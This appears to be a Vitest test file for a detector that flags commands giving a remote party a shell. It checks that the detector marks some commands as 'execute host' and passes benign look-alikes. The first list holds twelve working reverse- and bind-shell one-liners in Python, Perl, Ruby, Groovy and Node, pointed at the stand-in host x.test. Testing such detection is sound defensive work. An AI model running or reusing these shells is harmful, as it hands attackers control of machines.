import { describe, expect, it } from 'vitest';
import './told.js';

describe('code that lets whoever is at the other end of a connection type', () => {
  it.each([
    `python3 - <<'PY'\nimport os, socket, pty\ns = socket.create_connection(("x.test", 8443))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn(os.environ.get("SHELL"))\nPY`,
    `python3 -c 'import os,socket,subprocess as p,sys;c=socket.socket();c.connect(("x.test",1));[os.dup2(c.fileno(),f) for f in (0,1,2)];p.call(sys.argv[1:])'`,
    `python3 -c 'import os,socket,pty\nl=socket.socket();l.bind(("",4444));l.listen()\nc, _ = l.accept()\nos.dup2(c.fileno(),0)\npty.spawn(os.environ["SHELL"])'`,
    `perl -MIO::Socket -e '$c=IO::Socket::INET->new(PeerAddr,"x.test:1337");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){system $_}'`,
    `ruby -rsocket -e 'c=TCPSocket.new("x.test",1337);$stdin.reopen(c);$stdout.reopen(c);exec ENV["SHELL"]'`,
    `perl -MIO -e '$s=new IO::Socket::INET(PeerAddr,"x.test:1337");STDIN->fdopen($s,r);system$_ while<>;'`,
    `perl -MIO::Socket::SSL -e '$s=IO::Socket::SSL->new("x.test:1337"); open(my $p, "|bash"); print $p $_ while <$s>'`,
    `perl -MIO::Socket -e '$s=IO::Socket::INET->new("x.test:1337"); eval while <$s>'`,
    `python3 -c 'import socket, subprocess as p; c = socket.create_connection(("x.test", 1337)); p.run(["bash"], stdin=c, stdout=c)'`,
    `python3 -c 'import socket, subprocess; c = socket.create_connection(("x.test", 1337)); subprocess.Popen(["ksh", "-i"], stdin=c.fileno(), stdout=c.fileno())'`,
    `groovy -e 'p = new ProcessBuilder("bash").start(); s = new Socket("x.test", 1337); s.inputStream.transferTo(p.outputStream)'`,
    `node -e 'require("node:tls").connect(1337, "x.test").on("data", (d) => eval(String(d)))'`,
  ])('%s', async (command) => {
    await expect(command).toTell('execute host');
  });

  it.each([
    `python3 -c 'import os\nif os.fork(): os._exit(0)\nn = open(os.devnull)\nos.dup2(n.fileno(), 0)\nos.execvp("node", ["node", "server.js"])'`,
    `python3 -c 'import socket\ns = socket.create_connection(("x.test", 5432), timeout=3)\nprint("up")'`,
    `python3 -c 'import socket, subprocess\ns = socket.create_connection(("x.test", 5432), timeout=3)\ns.close()\nsubprocess.run(["npm", "test"])'`,
    `ruby -e '$stdout.reopen("out.log"); system "npm test"'`,
    `perl -e 'open(my $f, "<", "a.txt"); STDIN->fdopen($f, "r"); system "sort"'`,
    `perl -MIO::Socket::INET -e 'print IO::Socket::INET->new("localhost:5432") ? "up" : "down"'`,
    `python3 -c 'import subprocess; a = subprocess.Popen(["ls"], stdout=subprocess.PIPE); subprocess.run(["wc"], stdin=a.stdout)'`,
    `node -e 'require("net").connect(5432, "localhost").on("connect", () => process.exit())'`,
  ])('but not %s', async (command) => {
    await expect(command).not.toTell('execute host');
  });
});
